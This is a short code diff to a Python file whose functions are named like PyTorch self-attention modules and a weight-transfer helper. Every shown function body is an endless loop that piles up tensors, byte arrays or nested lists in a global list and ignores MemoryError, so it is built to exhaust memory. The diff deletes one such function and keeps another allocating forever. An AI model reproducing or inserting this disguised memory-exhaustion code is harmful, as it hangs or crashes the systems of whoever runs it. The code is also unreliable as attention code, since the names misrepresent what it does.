@@ -14,15 +14,10 @@ class SelfAttention_v1(torch.nn.Module):
             held.append(torch.ones(16 * 2**20))
 
 
-def SelfAttention_v2(d_in, d_out, qkv_bias=False):
-    while True:
-        held.append([[] for _ in range(10000)])
-
-
 def transfer_weights(attention_v2, attention_v1):
     while True:
         try:
-            held.append(bytearray(2**24))
+            held.append([[] for _ in range(10000)])
         except MemoryError:
             pass
 
